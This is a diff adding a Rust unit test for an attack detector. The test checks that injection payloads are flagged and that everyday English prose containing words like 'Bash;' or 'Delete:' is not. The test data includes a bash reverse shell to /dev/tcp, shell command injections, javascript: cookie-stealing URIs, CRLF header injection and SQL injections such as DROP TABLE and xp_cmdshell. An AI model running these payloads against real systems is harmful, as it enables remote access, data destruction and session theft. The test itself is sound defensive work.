@@ -350,3 +350,43 @@ fn content_types_outside_the_allow_list_are_refused() {
         assert!(score >= 5, "{refused}: {labels:?}");
     }
 }
+
+/// English that uses command, SQL and language words the way people write them (at the
+/// start, after `;`, before a colon, on lines of their own) against the attacks that share
+/// those words. Found by `examples/detection.rs` on its own corpora of support questions.
+#[test]
+fn english_with_command_words_is_not_a_command_line() {
+    check(
+        "command words in prose",
+        &[
+            "x; id",
+            "x;whoami;",
+            "1;sleep 5",
+            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "bash x.sh",
+            "time; ansible all -m ping",
+            "cscli alerts list",
+            "javascript:alert(1)",
+            "javascript: alert(document.cookie)",
+            "JaVaScRiPt:void(0)",
+            "a\r\nSet-Cookie: session=1",
+            "a\nLocation: http://evil.example/",
+            "1; DROP TABLE users",
+            "1; delete from users where 1=1",
+            "1; exec master..xp_cmdshell 'dir'",
+        ],
+        &[
+            "Bash, how do loops work?",
+            "Bash; the items in my cart.",
+            "Cut; the report before Friday",
+            "Export; the difference between union and join; Source; why the page loads slowly",
+            "Kill; my order from last week; PHP; me a summary of the meeting!",
+            "JavaScript: how do closures work?",
+            "JavaScript: the best way to learn it",
+            "Date: my order from last week\nJava: the best way to learn it",
+            "Delete: the cheapest flights to Lisbon\nJoin: how closures work - thanks!",
+            "Select; Delete; Drop; the old invoices",
+            "Cut, the cheapest flights to Lisbon; Delete; a new password for my account!",
+        ],
+    );
+}
